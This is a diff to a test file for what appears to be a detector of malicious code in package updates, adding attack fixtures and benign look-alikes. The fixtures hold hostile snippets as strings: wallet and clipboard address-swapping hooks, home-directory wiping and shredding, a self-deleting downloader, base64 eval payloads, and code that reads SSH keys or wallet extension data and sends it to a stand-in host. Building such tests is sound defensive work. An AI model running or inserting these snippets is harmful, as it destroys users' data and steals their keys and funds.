@@ -59,6 +59,45 @@ const ATTACKS: Readonly<Record<string, readonly [chain: string, code: string]>> 
   ],
   "plants an agent hook": ["persist agent", `fs.writeFileSync(".claude/settings.json", JSON.stringify(h)); fetch("https://c.test/" + id);`],
   "deletes the home": ["wipe home", `require("fs").rmSync(require("os").homedir(), { recursive: true, force: true });`],
+  "hooks a bare fetch beside a table of addresses": [
+    "wallet-hook ",
+    `const theirs = ${JSON.stringify(["1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "0x52908400098527886E0F7030069857D2E4169EE7", "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4", "TJRabPrwbZy45sbavfcjinPJC18kjpRTv8", "LM2WMpR1Rp6j3Sa59cMXMs1SPzj9eXpGc1"])};
+const old = fetch; fetch = async function (...a) { return swap(await old(...a), theirs); };`,
+  ],
+  "hooks a wallet by another name": [
+    "wallet-hook ",
+    `const w = window.ethereum; const ask = w.request; Object.defineProperty(w, "request", { value: (a) => ask(swap(a)) });`,
+  ],
+  "swaps addresses on the clipboard": [
+    "clipboard-swap ",
+    String.raw`const t = await navigator.clipboard.readText(); if (/\b0x[a-fA-F0-9]{40}\b/.test(t)) navigator.clipboard.writeText(mine);`,
+  ],
+  "swaps addresses by the system's commands": [
+    "clipboard-swap ",
+    String.raw`const { execSync } = require("child_process"); const t = execSync("pbpaste"); if (/[13][a-km-zA-HJ-NP-Z1-9]{25,34}/.test(t)) execSync("echo x | pbcopy"); const r = "\b0x[a-fA-F0-9]{40}";`,
+  ],
+  "deletes the home by its variable": [
+    "wipe home",
+    "const { rmSync } = require('fs'), path = require('path'); require('fs').rmSync(path.join(process.env.USERPROFILE, '*'), { recursive: true });",
+  ],
+  "deletes the home by a template": [
+    "wipe home",
+    "import os from 'os'; import fs from 'fs'; fs.rmSync(`${os.homedir()}/`, { recursive: true });",
+  ],
+  "shreds the home": [
+    "wipe home",
+    `require("child_process").execSync('find "$HOME" -type f -writable -print0 | xargs -0 -r shred -uvz -n 1');`,
+  ],
+  "deletes itself after it ran": [
+    "cover-up ",
+    `const fs = require("fs"), { exec } = require("child_process"); exec("curl -o x https://c.test/x"); fs.unlink(__filename, () => {});`,
+  ],
+  "the files of wallets sent": [
+    "secrets-out wallet",
+    `const fs = require("fs"); fetch("https://c.test", { body: fs.readFileSync(d + "/Local Extension Settings/bfnaelmomeimhlpmgjnjophhpkkoljpa") });`,
+  ],
+  "short code, decoded": ["decode-run ", `eval(atob("YWxlcnQoMSk="));`],
+  "short code, decoded by a constant": ["decode-run ", `const c = Buffer.from("cnVuKCk=", "base64").toString(); new Function(c)();`],
   "letters nobody sees": ["hidden-text hidden", `run("${"\u{e0100}\u{e0101}\u{e0102}\u{e0103}".repeat(8)}");`],
   "an obfuscator's names": [
     "unreadable hex-names",
@@ -139,6 +178,12 @@ const ORDINARY: Readonly<Record<string, string>> = {
   "a wrapped fetch": `const original = globalThis.fetch; globalThis.fetch = (...a) => trace(() => original(...a));`,
   "its own cache removed": `import fs from "fs"; import os from "os"; import path from "path"; fs.rmSync(path.join(os.tmpdir(), "sample"), { recursive: true });`,
   "a shell hint": `import { spawn } from "child_process"; spawn("x"); console.log("Add it to your ~/.bashrc");`,
+  "a folder of its own in the home removed": `import fs from "fs"; import os from "os"; import path from "path"; fs.rmSync(path.join(os.homedir(), ".sample"), { recursive: true });`,
+  "contracts of one chain": `export const contracts = [${Array.from({ length: 9 }, (_, n) => `"0x${String(n).repeat(40)}"`).join(",")}]; const old = window.fetch; window.fetch = (...a) => old(...a);`,
+  "a copy button": `export const copy = (text) => navigator.clipboard.writeText(text);`,
+  "a downloaded archive removed": `import fs from "fs"; import https from "https"; import path from "path"; https.get("https://x.test/a.tgz"); fs.unlinkSync(path.join(__dirname, "a.tgz"));`,
+  "a fetch for old runtimes": `let fetch = globalThis.fetch; if (!fetch) fetch = require("node-fetch"); export { fetch };`,
+  "features probed": `const has = (() => { try { new Function("async () => {}"); return eval("1 + 1") === 2; } catch { return false; } })(); export { has };`,
   "a minified module": `!function(e,t){"object"==typeof exports?module.exports=t():e.lib=t()}(this,function(){var e=/a/,n=function(t){return e.exec(t)};return{x:n,e:1e3}});`,
   "a document with a key": `export const pem = "-----BEGIN CERTIFICATE-----" + "${"MIIB".repeat(30)}";`,
 };
@@ -173,4 +218,32 @@ test("dependencies: imported, named in configuration, or nowhere", () => {
   const dependencies = { imported: "1", named: "1", nowhere: "1", "@types/x": "1", old: "1" };
   const files = { "index.js": 'import "imported/deep";', "config.json": '{"plugins":["named"]}', "README.md": "nowhere" };
   expect(difference({}, files, { dependencies }, { dependencies: { old: "1" } }).unimported).toEqual(["nowhere"]);
+});
+
+const READS = `import fs from "fs"; import os from "os";\nexport const keys = fs.readFileSync(os.homedir() + "/.ssh/id_rsa", "utf8");`;
+const SENDS = `import { keys } from "./a.js";\nfetch("https://c.test", { body: keys });`;
+
+test("a chain of two files, one of which imports the other", () => {
+  const found = difference({ "index.js": LIBRARY }, { "index.js": LIBRARY, "lib/a.js": READS, "lib/b.js": SENDS });
+  expect(found.chains).toMatchObject([{ id: "secrets-out", key: "ssh across files", path: "lib/a.js", line: 2 }]);
+  expect(signal(found)?.evidence[0]?.text).toContain("data is sent in lib/b.js");
+  // The importing one may as well be the one that reads.
+  const turned = {
+    "lib/a.js": `import { send } from "./b.js";\n${READS}\nsend(keys);`,
+    "lib/b.js": `export const send = (body) => fetch("https://c.test", { body });`,
+  };
+  expect(difference({ "index.js": LIBRARY }, { "index.js": LIBRARY, ...turned }).chains).toMatchObject([{ key: "ssh across files" }]);
+});
+
+test("two files that have nothing to do with each other make no chain, nor does one that only names secrets", () => {
+  const apart = { "lib/a.js": READS, "lib/b.js": `fetch("https://c.test");` };
+  expect(difference({ "index.js": LIBRARY }, apart).chains).toEqual([]);
+  const named = { "lib/a.js": `export const ignored = [".ssh/id_rsa"];`, "lib/b.js": SENDS };
+  expect(difference({ "index.js": LIBRARY }, named).chains).toEqual([]);
+});
+
+test("a chain across files hides no chain within one", () => {
+  const before = { "lib/a.js": READS, "lib/b.js": SENDS };
+  const found = difference(before, { ...before, "index.js": `${READS}\nfetch("https://c.test", { body: keys });` });
+  expect(found.chains).toMatchObject([{ id: "secrets-out", key: "ssh", path: "index.js" }]);
 });
